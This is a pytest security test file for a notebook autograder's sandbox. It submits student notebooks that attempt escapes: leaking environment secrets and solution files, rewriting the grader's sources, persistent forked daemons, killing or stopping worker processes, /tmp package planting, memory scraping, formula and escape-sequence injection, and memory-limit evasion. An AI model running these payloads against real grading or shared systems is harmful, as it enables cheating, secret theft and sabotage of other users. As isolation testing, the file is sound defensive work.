"""Isolation, attacked as a student who wants marks for nothing or to hurt a classmate would:
each attack is a real notebook graded through `course grade` (the CLI, in this process), and
each proves one property of the sandbox (autograder.sandbox). Victims are honest solutions
graded after (or beside) the attacker: they must keep full marks."""
from __future__ import annotations

import copy
import hashlib
import json
import os
import signal
import socket
import threading

import nbformat
import pytest

from autograder import sandbox
from autograder.build import dumps
from autograder.cli import main
from autograder.report import read_results
from tests.conftest import ROOT

LAB, FIRST = "backprop", "worked_example"        # the lab the attacks use, and its first answer cell
SECRET = "s3cret-grader-token-5521"


def _solution(course):
    return nbformat.read(course.solution_path(LAB), as_version=4)


def _with(nb, code: str, cell: str = FIRST, replace: bool = False):
    """A copy of `nb` whose answer cell `cell` runs `code` first (or only `code`)."""
    nb = copy.deepcopy(nb)
    target = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == cell)
    target.source = code if replace else code + "\n\n" + target.source
    return nb


def _grade(root, out, *args) -> tuple[int, dict]:
    rc = main(["grade", str(root), "--out", str(out), "--no-gradebook", *args])
    return rc, {student: r for (student, _), r in read_results(out).items()}


def _write(root, student: str, nb, lab: str = LAB):
    (root / student).mkdir(parents=True, exist_ok=True)
    path = root / student / f"{lab}.ipynb"
    path.write_text(dumps(nb))
    return path


def _lost(result) -> dict[str, str]:
    return {c.name: c.message for c in result.checks if not c.passed}


def _digest(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- one class, graded in order by one worker: attackers first, then an honest victim -------

# a daemon that outlives its notebook, double-forked into its own session, and keeps a mark in
# the sandbox's /tmp: if it survived into the next notebook, the victim's check below would see it
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            open('/tmp/daemon-was-here', 'w').write(str(os.getpid()))
            time.sleep(0.05)
    os._exit(0)
os.wait()
time.sleep(0.3)
"""
# the victim's first answer cell asserts that it is alone: no foreign process, no foreign file
ALONE = """
import os
_mine = {1, os.getpid(), os.getppid()}
_others = [p for p in os.listdir('/proc') if p.isdigit() and int(p) not in _mine]
_left = [p for p in ('/tmp/daemon-was-here',) if os.path.exists(p)]
assert not _others and not _left, f'a classmate left {_others} {_left}'
"""


PLANT = """
import os
os.makedirs('/tmp/bdb', exist_ok=True)
open('/tmp/bdb/__init__.py', 'w').write('raise SystemExit(3)')
os.chmod('/tmp/bdb', 0o555)
"""
READ_PREVIOUS = """
import gc
_prev = [repr(o) for o in gc.get_objects() if isinstance(o, dict) and ('outcomes' in o or 'cells' in o)]
raise RuntimeError('PREV ' + ' '.join(p for p in _prev if 'marker-private-4242' in p)[:300])
"""
FORMULA = """
_Evil = type('=HYPERLINK("http://127.0.0.1/x","click")\\x1b[2K\\x1b[3A', (BaseException,), {})
def worked_example(lr=0.01):
    raise _Evil('\\x1b[1G<script>alert(1)</script>')
"""


@pytest.fixture(scope="module")
def port():
    """A server on this machine's loopback: no sandbox may reach it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    seen, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                seen.append(conn.recv(100))
                conn.close()
            except OSError:
                continue
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def attacked(course, tmp_path_factory, port):
    port_number, seen = port
    mp = pytest.MonkeyPatch()
    mp.setenv("COURSE_SECRET_TOKEN", SECRET)            # the grader's environment
    solution, blank = _solution(course), nbformat.read(course.exercise_path(LAB), as_version=4)
    root, out = tmp_path_factory.mktemp("class"), tmp_path_factory.mktemp("out")
    solutions_file = course.solution_path(LAB)
    checks_file = ROOT / "autograder" / "checks" / f"{LAB}.py"
    before = {p: _digest(p) for p in (solutions_file, checks_file)}
    attacks = {
        # the reference solution, imported into a blank notebook
        "a-import-reference": _with(blank, f"from reference.{LAB} import *\nfrom reference import {LAB} as _r",
                                    replace=True),
        # rewrite the source notebook every classmate is graded against, and a check module
        "b-rewrite-sources": _with(blank, f"""
for _path in [{str(solutions_file)!r}, {str(checks_file)!r}, '/course/autograder/checks/{LAB}.py']:
    try:
        open(_path, 'a').write('\\n# hacked\\n')
    except OSError:
        pass
"""),
        "c-daemon": _with(blank, DAEMON),
        # the grader's environment and the solution's code, into a feedback message
        "d-leak-env": _with(blank, "raise RuntimeError(' '.join(f'{k}={v}' for k, v in __import__('os').environ.items()))",
                            replace=True),
        "e-leak-solution": _with(blank, f"raise RuntimeError(open({str(ROOT / 'reference' / (LAB + '.py'))!r}).read())",
                                 replace=True),
        "f-network": _with(blank, f"""
import socket
try:
    socket.create_connection(('127.0.0.1', {port_number}), timeout=2).sendall(b'leak')
except OSError:
    pass
"""),
        "g-kill-everyone": _with(blank, "import os, signal\nfor _p in range(2, 400):\n    try:\n        os.kill(_p, signal.SIGCONT)\n"
                                        "    except OSError:\n        pass"),
        "z-victim": _with(solution, ALONE),
    }
    # cells the student added that claim to be checks (nbgrader grade metadata, real check names)
    fake = copy.deepcopy(blank)
    for name in course.lab(LAB).checks:
        for gid in (name, f"check_{name}"):
            cell = nbformat.v4.new_code_cell("pass")
            cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": gid,
                                         "points": 99, "schema_version": 3}
            fake.cells.insert(1, cell)
    attacks["j-fake-checks"] = fake
    # red team: a read-only package planted in /tmp, imported by every later notebook's IPython
    attacks["m-plant-bdb"] = _with(solution, PLANT)
    # red team: the previous student's reply, looked for in this process's memory
    attacks["k-marker"] = _with(solution, "raise ValueError('marker-private-4242')", cell="sigmoid_grad", replace=True)
    attacks["l-read-previous"] = _with(blank, READ_PREVIOUS, replace=True)
    # red team: an exception class named as a spreadsheet formula and a terminal escape
    attacks["n-formula"] = _with(blank, FORMULA, replace=True)
    for student, nb in attacks.items():
        _write(root, student, nb)
    # a symlinked submission (to a classmate's notebook) and a folder that is a link
    (root / "h-symlink").mkdir()
    (root / "h-symlink" / f"{LAB}.ipynb").symlink_to(root / "z-victim" / f"{LAB}.ipynb")
    (root / "i-linked-folder").symlink_to(root / "z-victim")
    rc, results = _grade(root, out, "--jobs", "1")
    mp.undo()
    return rc, results, before, seen, out


def test_an_honest_classmate_graded_after_every_attack_keeps_full_marks(attacked):
    rc, results, *_ = attacked
    victim = results["z-victim"]
    assert victim.score == victim.max_score, _lost(victim)
    assert victim.sandboxed and not victim.grader_error


def test_the_reference_solution_is_not_importable(attacked):
    result = attacked[1]["a-import-reference"]
    assert result.score == 0
    assert "ModuleNotFoundError: No module named 'reference'" in result.checks[0].message


def test_the_sources_every_classmate_is_graded_against_cannot_be_changed(attacked):
    _, results, before, *_ = attacked
    assert {p: _digest(p) for p in before} == before
    assert results["b-rewrite-sources"].score == 0


def test_a_daemon_dies_with_its_notebook(attacked):
    # the victim's ALONE cell (graded next, in the same worker) found no process and no file
    assert attacked[1]["z-victim"].checks[0].passed


def test_feedback_never_carries_the_graders_environment_or_the_solution(attacked):
    _, results, *_ = attacked
    env_message = results["d-leak-env"].checks[0].message
    assert "RuntimeError: PATH=" in env_message                 # the sandbox's own environment, only
    assert SECRET not in env_message and "COURSE_SECRET_TOKEN" not in env_message and str(ROOT) not in env_message
    solution_message = results["e-leak-solution"].checks[0].message
    assert "FileNotFoundError: [Errno 2] No such file or directory" in solution_message, solution_message


def test_cells_a_student_adds_are_never_checks(attacked):
    result = attacked[1]["j-fake-checks"]
    assert result.score == 0 and result.max_score == 12 and [c.name for c in result.checks] == list(
        attacked[1]["z-victim"].checks[i].name for i in range(len(result.checks)))


def test_nothing_a_notebook_plants_in_tmp_reaches_the_next_one(attacked):
    planter = attacked[1]["m-plant-bdb"]
    assert planter.score == planter.max_score       # its own notebook ran; the victim after it too
    assert attacked[1]["z-victim"].score == attacked[1]["z-victim"].max_score


def test_the_previous_students_results_are_not_in_memory(attacked):
    assert not attacked[1]["k-marker"].checks[-1].passed
    message = attacked[1]["l-read-previous"].checks[0].message
    assert "RuntimeError: PREV" in message and "marker-private-4242" not in message, message


def test_messages_carry_no_formula_and_no_escape_sequence(attacked):
    _, results, _, _, out = attacked
    message = results["n-formula"].checks[0].message
    assert "\x1b" not in message and "HYPERLINK" in message
    csv_text = (out / "grades.csv").read_text()
    assert "\x1b" not in csv_text
    assert message.startswith('=HYPERLINK')                     # as the student wrote it, in the JSON
    import csv
    messages = [row["message"] for row in csv.DictReader(csv_text.splitlines())]
    assert "'" + message in messages                             # quoted in the CSV: text, not a formula
    assert not any(m[:1] in "=+-@" and m for m in messages)


def test_no_network(attacked):
    assert attacked[3] == []          # the loopback server saw nothing


def test_a_symlinked_submission_is_refused_with_a_message(attacked):
    _, results, *_ = attacked
    for student in ("h-symlink", "i-linked-folder"):
        result = results[student]
        assert result.score == 0
        assert result.checks[0].message.startswith("not graded: refused: the submission is a symbolic link"), student


def test_results_are_signed_and_a_forged_one_is_regraded(attacked, tmp_path):
    _, results, _, _, out = attacked
    forged = out / "results" / "a-import-reference" / f"{LAB}.json"
    data = json.loads(forged.read_text())
    for check in data["checks"]:
        check["points"], check["message"] = check["max_points"], ""
    data["score"] = data["max_score"]
    forged.write_text(json.dumps(data))                      # same fingerprint, no valid signature
    (out / "results" / "a-victim-copy").mkdir()
    assert ("a-import-reference", LAB) not in read_results(out)
    assert ("z-victim", LAB) in read_results(out)


# --- workers that die, stop or are attacked from a classmate's sandbox -----------------------

@pytest.fixture(scope="module")
def survived(course, tmp_path_factory):
    mp = pytest.MonkeyPatch()
    mp.setattr(sandbox, "SILENCE_LIMIT", 6.0)       # heartbeats come every second
    solution, blank = _solution(course), nbformat.read(course.exercise_path(LAB), as_version=4)
    root, out = tmp_path_factory.mktemp("workers"), tmp_path_factory.mktemp("out")
    slow_victim = _with(solution, "import time\ntime.sleep(4)")     # overlaps the attackers below
    notebooks = {
        "a-kill-all": _with(blank, "import os, signal, time\nfor _ in range(40):\n    try:\n        os.kill(-1, signal.SIGKILL)\n"
                                   "    except OSError:\n        pass\n    time.sleep(0.1)", replace=True),
        "b-victim": slow_victim,
        "c-kill-worker": _with(blank, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", replace=True),
        "d-stop-worker": _with(blank, "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)", replace=True),
        "e-victim": solution,
        "f-victim": solution,
    }
    for student, nb in notebooks.items():
        _write(root, student, nb)
    rc, results = _grade(root, out, "--jobs", "2")
    mp.undo()
    return rc, results, out


def test_a_classmate_running_beside_an_attacker_is_untouched(survived):
    _, results, _ = survived
    for student in ("b-victim", "e-victim", "f-victim"):
        assert results[student].score == results[student].max_score, (student, _lost(results[student]))


def test_a_killed_or_stopped_worker_costs_only_its_own_submission(survived):
    rc, results, out = survived
    assert rc == 3                                   # grader errors, said in the exit code
    assert "died" in results["c-kill-worker"].grader_error
    assert "stopped answering" in results["d-stop-worker"].grader_error
    # kill(-1) in a sandbox reaches only that sandbox: its own worker at worst
    assert results["a-kill-all"].score == 0
    assert (out / "grades.csv").exists() and len(results) == 6


# --- memory, counted over every process a notebook starts ------------------------------------

def test_a_grandchild_cannot_escape_the_memory_limit(course, tmp_path):
    grandchild = ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', "
                  "'import time; b = bytearray(2500 << 20); b[::4096] = b\"x\" * len(b[::4096]); time.sleep(30)'])")
    # red team: memory in memfd files is mapped by no process
    memfd = ("import os, time\n_fds = []\nfor _i in range(3):\n    _fd = os.memfd_create(f'm{_i}')\n"
             "    for _j in range(7):\n        os.write(_fd, b'\\x01' * (64 << 20))\n    _fds.append(_fd)\ntime.sleep(30)")
    root, out = tmp_path / "class", tmp_path / "out"
    _write(root, "hog", _with(_solution(course), grandchild))
    _write(root, "memfd", _with(_solution(course), memfd))
    # red team: a process that makes itself non-dumpable, so that its memory cannot be read
    hide = "import ctypes\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\n" + memfd
    _write(root, "nondumpable", _with(_solution(course), hide))
    rc, results = _grade(root, out, "--memory-mb", "1000", "--cell-timeout", "60")
    for student in ("hog", "memfd"):
        first = results[student].checks[0]
        assert rc == 0 and not first.passed
        assert first.message.endswith(": the notebook used more than 1000 MB of memory"), (student, first.message)
    assert results["nondumpable"].checks[0].message.endswith(
        ": a process of the notebook hid its memory from the grader (PR_SET_DUMPABLE 0)")


# --- input hygiene ------------------------------------------------------------------------

def test_huge_and_deeply_nested_files_get_one_line_each(course, tmp_path):
    root, out = tmp_path / "class", tmp_path / "out"
    (root / "huge").mkdir(parents=True)
    with open(root / "huge" / f"{LAB}.ipynb", "wb") as f:
        f.truncate(21 << 20)
    (root / "nested").mkdir()
    (root / "nested" / f"{LAB}.ipynb").write_text('{"cells": ' + "[" * 100000 + "]" * 100000 + "}")
    (root / "odd").mkdir()
    odd = _solution(course)
    odd.cells[0].metadata["nbgrader"] = "not a dict"
    odd.cells[1].metadata["nbgrader"] = {"grade_id": ["a", "list"], "grade": "yes"}
    (root / "odd" / f"{LAB}.ipynb").write_text(json.dumps(odd))
    rc, results = _grade(root, out)
    assert rc == 0
    assert results["huge"].checks[0].message.startswith("not graded: refused: the file is 21.0 MB, over the 20 MB limit")
    assert results["nested"].checks[0].message.startswith("not graded: not a notebook: JSON nested too deeply")
    assert results["odd"].score == results["odd"].max_score      # the source decides what is graded


# --- no sandbox: refuse, or grade with every result saying so -------------------------------

def test_without_bubblewrap_grading_refuses_with_one_line(course, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    _write(tmp_path / "class", "s", _solution(course))
    rc = main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--no-gradebook"])
    err = capsys.readouterr().err.strip().splitlines()
    assert rc == 2 and len(err) == 1
    assert err[0].startswith("course: error: no sandbox: bubblewrap (bwrap) is not installed; install bubblewrap")
    assert "--unsafe-no-sandbox" in err[0]


def test_unsafe_no_sandbox_grades_and_every_result_says_so(course, tmp_path):
    _write(tmp_path / "class", "s", _solution(course))
    rc, results = _grade(tmp_path / "class", tmp_path / "out", "--unsafe-no-sandbox")
    result = results["s"]
    assert rc == 0 and result.score == result.max_score
    assert not result.sandboxed and any("WITHOUT a sandbox" in n for n in result.notes)


# --- as an ordinary user: bwrap makes a user namespace ---------------------------------------

USER = "course-grade-test"


@pytest.fixture
def ordinary_user(tmp_path):
    """An unprivileged account that can reach the interpreter and this checkout: its folders
    get o+x for the test (restored after). Only root can make one: otherwise we are one."""
    import pwd
    import shutil
    import subprocess
    import sys
    if os.geteuid() != 0:
        yield None                                         # already an ordinary user
        return
    if not shutil.which("useradd") or not shutil.which("runuser"):
        pytest.skip("useradd/runuser not available to create an ordinary user")
    try:
        pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(["useradd", "--no-create-home", "--shell", "/bin/false", USER], check=True)
    changed = {}
    for target in (os.path.realpath(sys.executable), str(ROOT / ".venv"), str(ROOT), str(tmp_path)):
        for parent in [*reversed(__import__("pathlib").Path(target).parents)]:
            mode = parent.stat().st_mode
            if not mode & 0o001:
                changed[parent] = mode
                os.chmod(parent, (mode & 0o7777) | 0o001)
    try:
        yield USER
    finally:
        for parent, mode in changed.items():
            os.chmod(parent, mode & 0o7777)


def test_an_ordinary_user_grades_in_a_user_namespace(course, tmp_path, ordinary_user):
    import shutil
    import subprocess
    import sys
    work = tmp_path / "work"
    _write(work / "class", "honest", _solution(course))
    _write(work / "class", "cheat", _with(nbformat.read(course.exercise_path(LAB), as_version=4),
                                          f"from reference.{LAB} import *", replace=True))
    course_cmd = [str(ROOT / ".venv" / "bin" / "course"), "--course", str(ROOT / "course.yml"), "grade", "class",
                  "--out", "out", "--no-gradebook", "--jobs", "1"]
    env = {"PATH": f"{ROOT / '.venv' / 'bin'}:/usr/bin:/bin", "HOME": str(work), "LANG": "C.UTF-8"}
    if ordinary_user:
        shutil.chown(tmp_path, ordinary_user)
        for path in [work, *work.rglob("*")]:
            shutil.chown(path, ordinary_user)
        course_cmd = [shutil.which("runuser"), "-u", ordinary_user, "--", *course_cmd]
    done = subprocess.run(course_cmd, cwd=work, env=env, capture_output=True, text=True, timeout=300)
    if done.returncode == 2 and "no sandbox" in done.stderr:
        pytest.skip(f"user namespaces unavailable to an ordinary user here: {done.stderr.strip()}")
    assert done.returncode == 0, done.stderr[-3000:]
    results = {s: r for (s, _), r in read_results(work / "out").items()}
    assert results["honest"].score == results["honest"].max_score and results["honest"].sandboxed
    assert results["cheat"].score == 0
    assert "No module named 'reference'" in results["cheat"].checks[0].message
    assert sys.executable  # (the grader ran with this interpreter)


# --- lost metadata never gives a false zero -----------------------------------------------

def test_answers_that_lost_their_metadata_are_matched_by_content(course, tmp_path):
    def stripped(nb):
        nb = copy.deepcopy(nb)
        for cell in nb.cells:
            cell.metadata = {}
        return nb
    root, out = tmp_path / "class", tmp_path / "out"
    _write(root, "solution", stripped(_solution(course)))
    _write(root, "blank", stripped(nbformat.read(course.exercise_path(LAB), as_version=4)))
    rc, results = _grade(root, out)
    solution, blank = results["solution"], results["blank"]
    assert solution.score == solution.max_score, _lost(solution)
    assert any("matched to the exercise by content and order" in n for n in solution.notes)
    assert blank.score == 0
    assert all(m.startswith("not answered yet") for m in _lost(blank).values()), _lost(blank)
